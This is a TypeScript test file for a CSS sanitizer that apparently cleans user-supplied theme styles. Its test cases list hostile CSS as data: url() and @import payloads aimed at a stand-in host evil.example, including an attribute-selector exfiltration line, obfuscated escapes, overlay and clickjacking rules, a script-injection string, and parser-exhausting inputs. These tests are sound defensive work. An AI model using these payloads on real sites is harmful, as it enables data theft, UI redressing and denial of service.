import { describe, expect, test } from 'vitest'
import { cleanCss } from './clean-css.ts'
import { cleanCssInThread } from './clean-css-thread.ts'

const assets = ['paper.png', 'img/wood.webp']
const clean = (css: string) => cleanCss(css, assets)

test('colors, fonts, borders, shadows and own images are kept', () => {
  const css = `.mantine-Paper-root{border-radius:4px;box-shadow:0 2px 8px #0003;background:url(./paper.png) repeat}
a{border:1px solid var(--ik-border);background:linear-gradient(45deg,rgb(0 0 0/10%),var(--ik-surface));border-radius:48px}
@media (width>700px){h1{font-family:Georgia,serif;letter-spacing:.02em;transition:color .2s}}`

  const { css: cleaned, leftOut } = clean(css)

  expect(leftOut).toEqual([])
  expect(cleaned).toContain('url(./paper.png)')
  expect(cleaned).toContain('font-family:Georgia,serif')
})

/** Milliseconds of this thread. */
async function measureCpu(work: () => unknown): Promise<number> {
  const before = process.threadCpuUsage()
  await work()
  const { user, system } = process.threadCpuUsage(before)
  return (user + system) / 1000
}

test('10,000 rules take time in proportion to their number, and do not hold up this thread', async () => {
  const rules = (count: number) => 'a{color:red}'.repeat(count)
  clean(rules(2_500))

  const [some, all] = [await measureCpu(() => clean(rules(2_500))), await measureCpu(() => clean(rules(10_000)))]
  const outside = await measureCpu(async () => {
    const { css } = await cleanCssInThread(rules(10_000), [])
    expect(css).toHaveLength(rules(10_000).length)
  })

  expect(all).toBeLessThan(10 * some)
  expect(outside).toBeLessThan(all / 2)
})

describe('CSS that would take too long or too deep a stack is refused', () => {
  test.each([
    ['rules in rules', '@media x{'.repeat(8_000)],
    ['functions in functions', `a{color:${'rgb('.repeat(8_000)}}`],
    ['selectors in selectors', `${'a:not('.repeat(8_000)}{color:red}`],
    // Each of these is an error for which the parser reads the whole text again.
    ['selectors that cannot be read', '\n1pxa{}'.repeat(17_000)],
    ['brackets that close nothing', '}{'.repeat(60_000)],
  ])('%s', async (_, css) => {
    const cpu = await measureCpu(() => expect(() => clean(css)).toThrow('cssTooComplex'))

    expect(cpu).toBeLessThan(2_000)
    await expect(cleanCssInThread(css, [])).rejects.toMatchObject({ problem: 'cssTooComplex' })
  })
})

describe('anything that could access the network is removed', () => {
  test.each([
    '@import url(https://evil.example/a.css);',
    '@font-face{font-family:x;src:url(https://evil.example/a.woff2)}',
    'a{background:url(https://evil.example/a.png)}',
    'a{background:url("//evil.example/a.png")}',
    'a{background:URL( "h\\74tps://evil.example/a.png" )}',
    'a{background-image:image-set("https://evil.example/a.png" 1x)}',
    'a{background-image:-webkit-image-set(url(https://evil.example/a.png) 1x)}',
    'a{background:url(other.png)}',
    'a{background:url(data:image/svg+xml,<svg/>)}',
    'a{--x:url(https://evil.example/a.png);color:var(--x)}',
    'input[value^=a]{background:url(https://evil.example/?a)}',
    'a{background:u\\72l(https://evil.example/a.png)}',
    'a{background:image("https://evil.example/x.png")}',
    'a{background:cross-fade(url(https://evil.example/x.png), red)}',
    'a{background:src("https://evil.example/x.png")}',
    '@namespace url(https://evil.example);',
  ])('%s', (css) => {
    const { css: cleaned, leftOut } = clean(css)

    expect(cleaned).not.toMatch(/evil|url\(|image-set|data:/i)
    expect(leftOut.length).toBeGreaterThan(0)
  })
})

describe('anything that could cover, move or hide controls is removed', () => {
  test.each([
    'a{position:fixed;inset:0}',
    'a{box-shadow:0 0 0 9999px red}',
    'a{border:200px solid red}',
    'a{border:100vw solid red}',
    'a{display:none}',
    'a{POSITION:absolute}',
    'a{p\\6fsition:fixed}',
    'a{inset:0}',
    'a{width:100vw}',
    'a{box-shadow:0 0 0 100vmax black}',
    'a{box-shadow:0 0 0 calc(100px*90) black}',
    'a{box-shadow:0 0 0 calc(40px*100) black}',
    'a{box-shadow:0 0 0 var(--ik-nav) black}',
    'a{box-shadow:0 0 0 max(40px,100vw) black}',
    'a{box-shadow:0 0 0 40px black}',
    'a{box-shadow:0 40px black}',
    'a{box-shadow:0 0 9px red,0 0 9px red,0 0 9px red,0 0 9px red}',
    'a{text-shadow:0 40px red}',
    'button{border:40px solid}',
    'button{border-top-width:40px}',
    'button{letter-spacing:-40px}',
    'button{text-decoration-thickness:40px}',
    'a{transition:color 9999s}',
    'a{outline:100vmax solid}',
    'a{filter:hue-rotate(90deg)}',
    'a{behavior:url(x.htc)}',
    'a{color:expression(alert(1))}',
    'a{--mantine-color-red-6:green}',
    'a[href="x;}*{position:fixed}"]{width:1px}',
    'a{color:red</style>}',
    'a{opacity:0}',
    'a{transform:scale(90)}',
    'a{margin:-900px}',
    'a{z-index:99}',
    'a{font-size:0}',
    'a{pointer-events:none}',
    'a{visibility:hidden}',
    'a::before{color:red}',
    'a:after{color:red}',
    'a{content:"x"}',
    ':root{--ik-online:#f00}',
    '@keyframes x{to{color:red}}',
    '@layer reset{a{color:red}}',
    '@property --x{syntax:"*";inherits:false}',
  ])('%s', (css) => {
    const { css: cleaned, leftOut } = clean(css)

    expect(cleaned).toBe('')
    expect(leftOut.length).toBeGreaterThan(0)
  })
})

test('removed parts are listed with their line, up to a maximum', () => {
  expect(clean('a{color:red}\nb{position:fixed}').leftOut).toEqual(['position (line 2)'])
  expect(clean('b{position:fixed}'.repeat(500)).leftOut).toHaveLength(20)
})

test('invalid CSS is removed', () => {
  expect(clean('}}}} a{color:red').css).not.toContain('}}')
  expect(clean('</style><script>alert(1)</script>').css).not.toMatch(/[<>]/)
})
